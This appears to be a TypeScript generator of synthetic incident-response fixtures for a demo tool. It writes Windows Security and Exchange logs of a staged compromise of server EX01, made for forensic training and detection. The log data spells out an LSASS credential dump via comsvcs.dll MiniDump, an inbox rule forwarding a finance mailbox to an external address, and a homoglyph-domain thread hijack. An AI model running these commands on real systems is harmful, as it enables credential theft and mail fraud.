// What the attack on EX01 left after the web shell, for `exir credentials` and `exir phishing`:
// the Security events of an LSASS dump through comsvcs.dll with the logons before it, a member
// added to Exchange Windows Permissions, an inbox rule forwarding the finance director's mail out,
// and the mail that followed (forwarded copies, a reply into a stolen thread from a homoglyph of the
// firm's domain, copied to a colleague). Fixed values, no draw from the demo's random stream, written
// after the hourly logs: the rest of the demo is byte for byte what it was without them.

import { mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { renderRpsCmdlet } from './backend-rows.js';
import { utc } from './common.js';
import { RPS_CMDLET_FIELDS, exchangeHeader, hourStamp, isoMs } from './formats.js';
import { type World, buildAt, versionLine } from './world.js';

/** The homoglyph of example.com the attacker mails from: exаmple.com with a Cyrillic а, in DNS form. */
const LOOKALIKE_DOMAIN = 'xn--exmple-4nf.com';
const FORWARD_TO = 'ledger-archive@protonmail.com';

export interface AftermathTruth {
  lsassDumpTime: string;
  /** Accounts that logged on to EX01 before the dump in a way that leaves their secret in memory. */
  dumpedAccounts: string[];
  /** An account that logged on over the network before the dump: nothing of it stays in memory. */
  networkLogonAccount: string;
  groupChangeTime: string;
  forwardedMailbox: string;
  forwardTo: string;
  lookalikeDomain: string;
  hijackSubject: string;
}

const HOST = 'EX01.corp.local';

function security(time: number, id: number, record: number, fields: Record<string, string | number>): string {
  const at = new Date(time).toISOString();
  return JSON.stringify({
    EventTime: at.replace('T', ' ').slice(0, 19),
    '@timestamp': at,
    Hostname: HOST,
    EventType: 'AUDIT_SUCCESS',
    EventID: id,
    SourceName: 'Microsoft-Windows-Security-Auditing',
    Channel: 'Security',
    RecordNumber: record,
    ...fields,
  });
}

function logon(time: number, record: number, user: string, type: number, ip: string): string {
  return security(time, 4624, record, {
    SubjectUserSid: 'S-1-5-18',
    SubjectUserName: 'EX01$',
    SubjectDomainName: 'CORP',
    TargetUserName: user,
    TargetDomainName: 'CORP',
    LogonType: type,
    LogonProcessName: type === 3 ? 'NtLmSsp' : 'Advapi',
    IpAddress: ip,
    WorkstationName: '-',
  });
}

const MSGTRK_FIELDS = [
  'date-time',
  'client-ip',
  'client-hostname',
  'server-ip',
  'server-hostname',
  'source-context',
  'connector-id',
  'source',
  'event-id',
  'internal-message-id',
  'message-id',
  'network-message-id',
  'recipient-address',
  'recipient-status',
  'total-bytes',
  'recipient-count',
  'related-recipient-address',
  'reference',
  'message-subject',
  'sender-address',
  'return-path',
  'message-info',
  'directionality',
  'tenant-id',
  'original-client-ip',
  'original-server-ip',
  'custom-data',
  'transport-traffic-type',
  'log-id',
  'schema-version',
];

function mailRow(time: number, n: number, source: string, sender: string, recipients: string[], subject: string, clientIp: string): string {
  const v: Record<string, string> = {
    'date-time': isoMs(time),
    'client-ip': clientIp,
    'server-ip': '10.10.1.11',
    'server-hostname': 'EX01',
    source,
    'event-id': 'RECEIVE',
    'internal-message-id': String(4100 + n),
    'message-id': `<demo-${n}@${source === 'SMTP' ? 'mail' : 'EX01'}>`,
    'recipient-address': recipients.join(';'),
    'total-bytes': String(20_000 + n * 37),
    'recipient-count': String(recipients.length),
    'message-subject': subject,
    'sender-address': sender,
    'return-path': sender,
    directionality: source === 'SMTP' ? 'Incoming' : 'Originating',
    'schema-version': '15.01.2176.002',
  };
  return MSGTRK_FIELDS.map((f) => {
    const value = v[f] ?? '';
    return /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
  }).join(',');
}

/** Writes the aftermath files under `outDir`; returns their paths (bundle-relative) and the bytes written. */
export async function writeAftermath(outDir: string, world: World): Promise<{ files: string[]; bytes: number; truth: AftermathTruth }> {
  const [admin] = world.admins;
  const finance = world.people[2];
  const client = world.people[5];
  const colleague = world.people[3];
  if (!admin || !finance || !client || !colleague) throw new Error('the demo world has too few people for the aftermath');
  const ex01 = world.servers[0];
  const dump = utc(3, 5, 22, 58, 14, 0);
  const group = utc(3, 5, 23, 4, 40, 0);
  const rule = utc(3, 5, 23, 9, 2, 0);
  const files: { path: string; text: string }[] = [];

  // Security: who logged on before the dump (a service, an administrator over RDP, a network logon that
  // leaves nothing in memory), the dump itself through comsvcs.dll, then a member added by the server.
  const events = [
    logon(utc(3, 1, 6, 2, 11), 88_101, 'svc-mailarchive', 5, '-'),
    logon(utc(3, 4, 9, 15, 3), 88_412, admin.account, 10, admin.workstationIp),
    logon(utc(3, 5, 8, 40, 0), 88_530, finance.sam, 3, finance.workstationIp),
    security(dump, 4688, 88_611, {
      SubjectUserSid: 'S-1-5-18',
      SubjectUserName: 'EX01$',
      SubjectDomainName: 'CORP',
      SubjectLogonId: '0x3e7',
      NewProcessId: '0x1a2c',
      NewProcessName: 'C:\\Windows\\System32\\rundll32.exe',
      CommandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\root\\lsass.dmp full',
      ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
      TargetUserName: '-',
      TargetDomainName: '-',
    }),
    security(group, 4756, 88_640, {
      MemberName: 'CN=support01,CN=Users,DC=corp,DC=local',
      MemberSid: 'S-1-5-21-1844237615-456351123-2037193416-1990',
      TargetUserName: 'Exchange Windows Permissions',
      TargetDomainName: 'CORP',
      TargetSid: 'S-1-5-21-1844237615-456351123-2037193416-1119',
      SubjectUserSid: 'S-1-5-18',
      SubjectUserName: 'EX01$',
      SubjectDomainName: 'CORP',
      SubjectLogonId: '0x3e7',
      PrivilegeList: '-',
    }),
  ];
  files.push({ path: 'EX01/Windows/EventLogs/Security.jsonl', text: `${events.join('\n')}\n` });

  // The inbox rule, run through the web shell's PowerShell as the admin account it had taken.
  const ruleRow = renderRpsCmdlet(
    ex01,
    {
      time: rule,
      durationMs: 412,
      requestId: 'a3f2c1d0-5b6e-4f70-8a91-0c2d3e4f5a6b',
      user: `CORP\\${admin.account}`,
      userSid: admin.sid,
      isAdmin: true,
      clientApplication: 'EMS',
      cmdlet: 'New-InboxRule',
      parameters: `-Mailbox "${finance.smtp}" -Name "." -ForwardTo "${FORWARD_TO}" -MarkAsRead "True"`,
      threadId: 61,
      outputCount: 1,
    },
    '7c0e4a2b-91d3-4e5f-a6b7-c8d9e0f1a2b3',
  );
  files.push({
    path: `EX01/Exchange/Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_${hourStamp(rule)}-2.LOG`,
    text: exchangeHeader(versionLine(buildAt(ex01, rule)), 'Rps Cmdlet Logs', rule, RPS_CMDLET_FIELDS) + ruleRow,
  });

  // Message tracking: a thread with a client before the attack, the rule's forwarded copies after it,
  // the client's own reply (a normal reply), and the attacker's reply into the thread from the lookalike.
  const subject = 'Invoice 4411 - completion monies';
  const lookalike = `${finance.smtp.split('@')[0] ?? 'finance'}@${LOOKALIKE_DOMAIN}`;
  const clientAddress = `${client.sam}@harbourlaw.je`;
  const rows = [
    mailRow(utc(2, 26, 10, 5, 0), 1, 'STOREDRIVER', finance.smtp, [clientAddress], subject, finance.workstationIp),
    mailRow(utc(2, 26, 14, 30, 0), 2, 'SMTP', clientAddress, [finance.smtp], `RE: ${subject}`, '192.0.2.25'),
    mailRow(utc(3, 6, 9, 12, 0), 3, 'STOREDRIVER', finance.smtp, [FORWARD_TO], 'FW: Payment run 8 March', '10.10.1.11'),
    mailRow(utc(3, 8, 11, 0, 0), 4, 'SMTP', clientAddress, [finance.smtp], `RE: ${subject}`, '192.0.2.25'),
    // Sent to the client and copied to a colleague to look routine: the firm's server sees the copy.
    mailRow(utc(3, 9, 8, 47, 0), 5, 'SMTP', lookalike, [colleague.smtp], `RE: ${subject}`, '203.0.113.77'),
    mailRow(utc(3, 9, 9, 30, 0), 6, 'SMTP', clientAddress, [finance.smtp], 'Your new bank details', '192.0.2.25'),
  ];
  files.push({
    path: 'EX01/Exchange/TransportRoles/Logs/MessageTracking/MSGTRK20210226-1.LOG',
    text:
      exchangeHeader(versionLine(buildAt(ex01, utc(2, 26, 10, 5, 0))), 'Message Tracking Log', utc(2, 26, 10, 5, 0), MSGTRK_FIELDS) +
      `${rows.join('\r\n')}\r\n`,
  });

  let bytes = 0;
  for (const f of files) {
    await mkdir(dirname(join(outDir, f.path)), { recursive: true });
    await writeFile(join(outDir, f.path), f.text);
    bytes += Buffer.byteLength(f.text);
  }
  return {
    files: files.map((f) => f.path),
    bytes,
    truth: {
      lsassDumpTime: new Date(dump).toISOString(),
      dumpedAccounts: ['CORP\\svc-mailarchive', `CORP\\${admin.account}`],
      networkLogonAccount: `CORP\\${finance.sam}`,
      groupChangeTime: new Date(group).toISOString(),
      forwardedMailbox: finance.smtp,
      forwardTo: FORWARD_TO,
      lookalikeDomain: LOOKALIKE_DOMAIN,
      hijackSubject: `RE: ${subject}`,
    },
  };
}
